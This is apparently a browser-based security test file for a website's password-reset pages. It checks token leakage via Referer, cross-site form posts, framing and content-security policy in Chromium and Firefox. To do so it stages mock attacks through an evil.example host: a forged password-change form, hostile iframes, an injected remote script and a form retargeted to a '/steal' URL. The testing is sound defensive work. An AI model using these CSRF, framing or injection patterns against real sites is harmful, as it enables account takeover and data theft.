/**
 * What the policies of the site come to in two browsers, read from the wire: referrers, origins, cookies, frames, scripts.
 * `Secure` and the `__Host-` prefix need https, which this machine does not have: test/functions/routes/token-cookie.unit.test.ts.
 */
import type { Browser, Page } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { requireTokenLink, waitForMail } from '../fakes/mailbox';
import { addAccount, newVisitor } from '../harness/accounts';
import { type RecordingProxy, startRecordingProxy } from '../harness/recording-proxy';
import { type BrowserName, canRun, launch } from '../harness/two-browsers';
import { useSite } from '../harness/worker';

const site = useSite();
const RESET = '/en/account/reset/';
const PASSWORD = '/en/account/new-password/';

const browsers: readonly BrowserName[] = ['chromium', 'firefox'];
const found = await Promise.all(browsers.map(canRun));

describe.each(browsers)('in %s', (name) => {
  const skipped = !found[browsers.indexOf(name)];
  describe.skipIf(skipped)(skipped ? `skipped: no ${name} on this machine` : 'the policies hold', () => {
    let proxy: RecordingProxy;
    let browser: Browser;
    let page: Page;

    beforeAll(async () => {
      proxy = await startRecordingProxy(site.origin);
      browser = await launch(name, proxy.port);
    });
    afterAll(async () => {
      await browser?.close();
      await proxy?.[Symbol.asyncDispose]();
    });
    beforeEach(async () => {
      proxy.clear();
      page = await (await browser.createBrowserContext()).newPage();
    });
    afterEach(() => page.browserContext().close());

    const pathOf = () => new URL(page.url()).pathname;
    const requestTo = (method: string, path: string) =>
      proxy.requests.find(({ method: sent, url }) => sent === method && url === `${site.origin}${path}`);
    const click = (selector: string) => Promise.all([page.waitForNavigation(), page.click(selector)]);

    async function mailLink(): Promise<URL> {
      const { username, email } = await addAccount(site);
      await site.post(RESET, { identifier: username }, { headers: newVisitor() });
      return requireTokenLink(await waitForMail(site.resend, email));
    }

    /** Opens a mailed link as people do: by a click in their mail program on the web. */
    async function openFromMail(link: URL): Promise<void> {
      await page.goto(proxy.play('http://webmail.example/inbox', `<a href="${link.href}">Set a new password</a>`));
      await click('a');
      expect(pathOf()).toBe(PASSWORD);
    }

    it('E14 no request but the link itself carries the token, to any host, in address or Referer', async () => {
      const link = await mailLink();
      const token = link.searchParams.get('token') ?? '';
      await openFromMail(link);
      await page.evaluate(() => {
        const away = document.createElement('a');
        away.href = 'http://elsewhere.example/';
        away.id = 'away';
        away.textContent = 'Elsewhere';
        document.querySelector('main')?.appendChild(away);
      });
      proxy.play('http://elsewhere.example/', '<title>Elsewhere</title>');
      await click('#away');
      const carriers = proxy.requests.filter(({ url, headers }) => `${url} ${headers.referer}`.includes(token));
      expect(carriers.map(({ url }) => url)).toEqual([link.href]);
      expect(proxy.requests.find(({ url }) => url === `${site.origin}${PASSWORD}`)?.headers.referer).toBeUndefined();
      expect(proxy.requests.find(({ url }) => url === 'http://elsewhere.example/')?.headers).not.toHaveProperty(
        'referer',
      );
    });

    it('E14 the clean page’s form tells its origin, and sets the password', async () => {
      await openFromMail(await mailLink());
      expect(await page.evaluate(() => document.cookie)).toBe('');
      await page.type('#password', 'seven quiet rivers');
      await click('main button[type=submit]');
      expect(pathOf()).toBe('/en/account/password-changed/');
      expect(requestTo('POST', PASSWORD)?.headers.origin).toBe(site.origin);
      await site.settle();
    });

    it('H1 a form of another site is refused, brings no cookie, and the page says how to go on', async () => {
      await openFromMail(await mailLink());
      const form = `<form method="post" action="${site.origin}${PASSWORD}"><input name="password" value="seven quiet rivers"><button>Win</button></form>`;
      await page.goto(proxy.play('http://evil.example/prize', form));
      await click('button');
      const sent = requestTo('POST', PASSWORD);
      expect(sent?.headers.origin).toBe('http://evil.example');
      expect(sent?.headers).not.toHaveProperty('cookie');
      expect(await page.$$eval(`main a[href="${PASSWORD}"]`, (links) => links.length)).toBe(1);
    });

    it.each([RESET, '/en/'])('H2 no other site can frame %s', async (path) => {
      const harmless = proxy.play('http://harmless.example/', '<form>harmless</form>');
      const frames = `<iframe src="${harmless}"></iframe><iframe src="${site.origin}${path}"></iframe>`;
      await page.goto(proxy.play('http://evil.example/frames', frames), { waitUntil: 'networkidle0' });
      const forms = await Promise.all(
        page.frames().map((frame) =>
          frame.$$('form').then(
            ({ length }) => length,
            () => 0,
          ),
        ),
      );
      expect(requestTo('GET', path)).toBeDefined();
      expect(
        forms.reduce((sum, count) => sum + count, 0),
        'only the harmless page shows its form',
      ).toBe(1);
    });

    it.each([RESET, '/en/'])(
      'a script, a style or a form target that came from nowhere does nothing on %s',
      async (path) => {
        await page.goto(`${site.origin}${path}`);
        proxy.play('http://evil.example/steal', '<title>Stolen</title>');
        proxy.play('http://evil.example/script.js', 'document.title = "Hacked"');
        const title = await page.title();
        await page.evaluate(() => {
          for (const source of ['', 'http://evil.example/script.js']) {
            const script = document.createElement('script');
            if (source) script.src = source;
            else script.textContent = 'document.title = "Hacked"';
            document.body.appendChild(script);
          }
          const form = document.querySelector('form');
          if (form) form.action = 'http://evil.example/steal';
          try {
            form?.submit();
          } catch {
            // Firefox refuses by throwing.
          }
        });
        await new Promise((resolve) => setTimeout(resolve, 500));
        expect(await page.title()).toBe(title);
        expect(proxy.requests.filter(({ url }) => url.startsWith('http://evil.example/'))).toEqual([]);
      },
    );
  });
});
